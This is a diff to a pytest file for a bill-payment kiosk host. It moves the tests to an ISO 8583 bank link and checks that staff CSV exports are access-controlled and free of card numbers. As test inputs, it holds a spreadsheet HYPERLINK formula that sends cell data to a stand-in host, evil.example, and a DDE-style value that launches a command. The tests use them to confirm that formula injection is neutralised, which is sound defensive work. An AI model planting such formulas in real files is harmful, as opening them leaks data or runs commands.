@@ -20,6 +20,7 @@ from typing import Any
 
 import httpx
 import pytest
+from tests.support.bank8583 import Terminal, start_front_end
 from tests.support.clocks import running_from
 from tests.support.fleet import SignedKiosk, status
 from sqlalchemy import func, select
@@ -67,6 +68,7 @@ class Host:
             return household_bill(conn, house_no, date(2026, 11, 21), self.app_settings)
 
     app_settings: Any = None
+    link: Any = None     # the demo kiosk's terminal on the bank link (tests.support.bank8583.Terminal)
 
 
 @pytest.fixture
@@ -90,14 +92,18 @@ def host(demo_db: Path, tmp_path: Path, today: date) -> Iterator[Host]:
         accounts.add(name, password, role, by="test")
     server = HostServer(app)
     server.start()
+    start_front_end(server, settings, engine, running_from(today))   # bill payments go over ISO 8583
     kiosk = SignedKiosk(server.url, KIOSK, TMK)
     kiosk.sign_on()
     env = Host(server.url, engine, app, kiosk)
     env.app_settings = settings
+    env.link = Terminal(server.bank_port, tmk=TMK)
+    assert env.link.sign_on().message.fields[39] == "00"
     try:
         yield env
     finally:
         kiosk.close()
+        server.bank.stop()
         server.stop()
         engine.dispose()
 
@@ -114,6 +120,16 @@ def _periods(bill: dict[str, Any]) -> list[str]:
     return sorted(periods)
 
 
+def _link_pay(host: Host, house_no: str = "3-2-1202", bill_ref: str | None = None) -> dict[str, str]:
+    """A bill payment over the bank link, as the demo kiosk's terminal sends it."""
+    bill, card = host.bill(house_no), _card()
+    reply = host.link.purchase(card.track2, card.pin, card.pan, bill["total_due_fen"],
+                               bill_ref=bill_ref or f"H={house_no};P={','.join(_periods(bill))}").message.fields
+    assert reply[39] == "00"
+    return {"stan": str(reply[11]), "rrn": str(reply[37]).strip(), "auth_code": str(reply[38]).strip(),
+            "amount_fen": str(bill["total_due_fen"])}
+
+
 def _pay(host: Host, txn_id: str, house_no: str = "3-2-1202") -> dict[str, Any]:
     bill = host.bill(house_no)
     reply = host.kiosk.pay(txn_id, house_no, bill["total_due_fen"], _periods(bill), _card())
@@ -123,8 +139,7 @@ def _pay(host: Host, txn_id: str, house_no: str = "3-2-1202") -> dict[str, Any]:
 
 # --- 1. the bank journal is staff data --------------------------------------------------
 def test_the_bank_journal_is_not_on_the_kiosk_api_and_needs_a_signed_in_viewer(host: Host) -> None:
-    approved = _pay(host, TXN_ID)
-    assert approved["result"] == "approved"
+    approved = _link_pay(host)
     anonymous = host.staff()
     assert anonymous.get("/api/v1/bank/journal", params={"day": "2026-11-21"}).status_code == 404
     refused = anonymous.get("/console/bank-journal.csv", params={"day": "2026-11-21"},
@@ -137,8 +152,8 @@ def test_the_bank_journal_is_not_on_the_kiosk_api_and_needs_a_signed_in_viewer(h
     journal = viewer.get("/console/bank-journal.csv", params={"day": "2026-11-21"})
     assert journal.status_code == 200 and journal.headers["content-type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(journal.text)))
-    assert [(r["txn_id"], r["result"], r["auth_code"]) for r in rows] == [
-        (TXN_ID, "approved", approved["auth_code"])]
+    assert [(r["stan"], r["type"], r["result"], r["reference"], r["auth_code"], r["kiosk_id"]) for r in rows] == [
+        (approved["stan"], "purchase", "approved", approved["rrn"], approved["auth_code"], KIOSK)]
     assert PAN not in journal.text
     from host.console.mount import console_of
     entries, _ = console_of(host.app).audit.page(action="export")
@@ -294,19 +309,24 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 
 
 def test_formula_cells_are_neutralised_in_the_journal_and_the_console_export(host: Host) -> None:
-    approved = _pay(host, "@SUM(1+1)*cmd|' /C calc'!A0")
-    assert host.kiosk.reverse(approved["txn_id"], approved["amount_fen"], FORMULA).json["status"] == "reversed"
+    """A terminal's bill reference (63) in the bank journal's export and a
+    kiosk's txn id (its copy) in the transactions' export."""
+    approved = _link_pay(host, bill_ref=FORMULA)
+    weird = "@SUM(1+1)*cmd|' /C calc'!A0"
+    assert host.kiosk.backup({"txn_id": weird, "house_no": "3-2-1202", "amount_fen": int(approved["amount_fen"]),
+                              "masked_pan": "622202*********0017", "result": "approved",
+                              "reference": approved["rrn"], "auth_code": approved["auth_code"],
+                              "at": "2026-11-21T10:30:00"}).status == 200
     viewer = host.staff("look")
     journal = list(csv.DictReader(io.StringIO(viewer.get("/console/bank-journal.csv",
                                                          params={"day": "2026-11-21"}).text)))
-    assert [r["code"] for r in journal if r["type"] == "reversal"] == ["'" + FORMULA]
-    assert {r["txn_id"] for r in journal} == {"'" + approved["txn_id"]}
-    assert {r["amount_fen"] for r in journal} == {str(approved["amount_fen"])}        # numbers stay numbers
+    assert [r["bill_ref"] for r in journal] == ["'" + FORMULA]
+    assert {r["amount_fen"] for r in journal} == {approved["amount_fen"]}            # numbers stay numbers
 
     export = viewer.get("/console/transactions.csv", params={"from": "2026-11-21", "to": "2026-11-21"})
     rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
-    mine = [r for r in rows if r["txn_id"].endswith(approved["txn_id"])]
-    assert mine and all(r["txn_id"] == "'" + approved["txn_id"] for r in mine)
+    mine = [r for r in rows if r["txn_id"].endswith(weird)]
+    assert mine and all(r["txn_id"] == "'" + weird for r in mine)
     assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r.values())
     viewer.close()
 
